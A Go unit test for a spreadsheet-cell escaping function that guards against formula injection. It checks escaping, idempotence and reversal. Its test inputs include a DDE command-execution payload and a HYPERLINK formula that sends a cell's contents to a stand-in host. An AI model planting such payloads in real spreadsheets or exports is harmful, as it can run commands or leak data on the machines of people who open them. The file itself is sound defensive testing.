package domain_test

import (
	"testing"

	"github.com/vn-cchc/cchc/internal/domain"
)

func TestSheetText(t *testing.T) {
	cases := map[string]string{
		`=cmd|'/C calc'!A0`:                 `'=cmd|'/C calc'!A0`,
		`=HYPERLINK("http://x/?"&A2,"Xem")`: `'=HYPERLINK("http://x/?"&A2,"Xem")`,
		"+1+1":                              "'+1+1",
		"-2+3":                              "'-2+3",
		"@SUM(A1)":                          "'@SUM(A1)",
		"\tchèn":                            "'\tchèn",
		"\r=1":                              "'\r=1",
		"＝1+1":                              "'＝1+1",
		"-5":                                "-5",
		"+3,5":                              "+3,5",
		"=":                                 "=",
		"'=1+2":                             "'=1+2",
		"Đã triển khai theo kế hoạch":       "Đã triển khai theo kế hoạch",
		"":                                  "",
	}
	for in, want := range cases {
		got := domain.SheetText(in)
		if got != want {
			t.Errorf("SheetText(%q) = %q, want %q", in, got, want)
		}
		if domain.SheetText(got) != got {
			t.Errorf("SheetText is not idempotent on %q", in)
		}
		if back := domain.UnSheetText(got); back != in && in != "'=1+2" {
			t.Errorf("UnSheetText(%q) = %q, want %q", got, back, in)
		}
	}
}
